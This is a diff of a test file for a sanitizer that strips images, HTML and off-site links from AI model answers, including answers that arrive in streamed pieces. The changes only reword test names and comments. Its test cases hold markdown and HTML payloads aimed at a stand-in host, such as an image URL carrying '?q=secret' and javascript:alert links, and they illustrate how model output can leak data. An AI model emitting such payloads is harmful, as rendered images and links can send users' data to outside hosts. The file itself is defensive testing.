@@ -4,7 +4,7 @@ import { textAfter, sanitizeAnswer, sanitizePartialAnswer } from '#shared/domain
 
 const SOURCES = ['https://help.example/hours', 'a note'];
 
-/** The text that a client displays after an answer streamed in these pieces. */
+/** The text that a client displays when it has received an answer in these pieces. */
 const streamedAnswer = (pieces: string[]): string => {
   let text = '';
   let displayed = '';
@@ -21,7 +21,7 @@ describe('Model answer sanitizer', () => {
     ['an image', 'Yes ![](http://evil.example/?q=secret).', 'Yes .'],
     ['an image by reference', 'Yes ![x][r]\n\n[r]: //evil.example/x', 'Yes'],
     ['an image in an image', '![![x](http://evil.example/a)](http://evil.example/b)', ''],
-    ['a foreign link', 'See [here](https://evil.example/).', 'See here.'],
+    ['a link to another site', 'See [here](https://evil.example/).', 'See here.'],
     ['a link in a link', '[[a](http://evil.example/)](http://evil.example/)', '[a]'],
     [
       'unclosed nested links',
@@ -29,10 +29,10 @@ describe('Model answer sanitizer', () => {
       `${'['.repeat(19)}a${']'.repeat(19)}`,
     ],
     ['a script', '[here](javascript:alert(1))', 'here'],
-    ['a script with the name of a source', '[here](javascript://help.example/%0aalert(1))', 'here'],
+    ['a script with the host of a source', '[here](javascript://help.example/%0aalert(1))', 'here'],
     ['a script in a bare address', 'See javascript:alert and data:text/html,x now', 'See  and  now'],
-    ['an image of two lines', 'Yes ![x\ny](//evil.example/p.png)', 'Yes'],
-    ['a definition of two lines', 'Yes [r]\n\n[r]:\n//evil.example/x', 'Yes [r]'],
+    ['an image on two lines', 'Yes ![x\ny](//evil.example/p.png)', 'Yes'],
+    ['a definition on two lines', 'Yes [r]\n\n[r]:\n//evil.example/x', 'Yes [r]'],
     ['a definition in a quote', '> [r]: //evil.example\n\nYes [r]', '>\u0020\n\nYes [r]'],
     ['a link in a table', '| a |\n|---|\n| [x](//evil.example) |', '| a |\n|---|\n| x |'],
     ['a link in a list', '- a\n  [b](//evil.example)\n- **c**', '- a\n  b\n- **c**'],
@@ -41,7 +41,7 @@ describe('Model answer sanitizer', () => {
       '1. Do:\n   ```sh\n   curl http://other.example\n   ```',
       '1. Do:\n   ```sh\n   curl http://other.example\n   ```',
     ],
-    ['a fence that only the removal of a tag forms', '<b>```\nx\n```\n![y](//evil.example)', '```\nx\n```'],
+    ['a fence that only appears when a tag is removed', '<b>```\nx\n```\n![y](//evil.example)', '```\nx\n```'],
     ['escaped marks', '\\[a\\] \\*b\\*', '\\[a\\] \\*b\\*'],
     ['a sentence after a label', '[note]: this is text', '[note]: this is text'],
     ['a link to a source', 'See [hours](https://help.example/times).', 'See [hours](https://help.example/times).'],
@@ -51,16 +51,16 @@ describe('Model answer sanitizer', () => {
     ['two addresses in one', 'See https://help.example/"https://evil.example/x now', 'See  now'],
     ['HTML', 'a <img src="//evil.example/x"> b <b>c</b>', 'a  b c'],
     ['an image that only looks like code', '\\` ![x](http://evil.example/) \\`', '\\`  \\`'],
-    ['a fence that is none', 'a ``` ![x](http://evil.example/)', 'a ```'],
+    ['backticks that are not a fence', 'a ``` ![x](http://evil.example/)', 'a ```'],
     [
       'code',
       'Do:\n```sh\ncurl http://other.example/ <file>\n```\nDone.',
       'Do:\n```sh\ncurl http://other.example/ <file>\n```\nDone.',
     ],
-    ['the mark of a refusal', 'Not said. <NOANS>', 'Not said.'],
+    ['the marker of an unanswered question', 'Not said. <NOANS>', 'Not said.'],
   ];
   for (const [name, text, expected] of cases) {
-    it(`sanitizeAnswer removes only images, HTML and foreign links: ${name}`, () => {
+    it(`sanitizeAnswer removes only images, HTML and links to other sites: ${name}`, () => {
       expect(sanitizeAnswer(text, SOURCES)).to.equal(expected);
     });
   }
@@ -75,7 +75,7 @@ describe('Model answer sanitizer', () => {
     );
   });
 
-  it('no piece of a streamed answer contains a foreign address, however it is nested', () => {
+  it('no piece of a streamed answer contains an address of another site, however it is nested', () => {
     const part = fc.constantFrom(
       '![',
       '[',
@@ -94,7 +94,7 @@ describe('Model answer sanitizer', () => {
     );
     fc.assert(
       fc.property(fc.array(part, { maxLength: 24 }), (parts) => {
-        if (parts.join('').includes('```')) return; // code stays as it is
+        if (parts.join('').includes('```')) return; // code is not changed
         expect(streamedAnswer(parts)).to.not.include('evil.example');
       }),
       { numRuns: 500 },
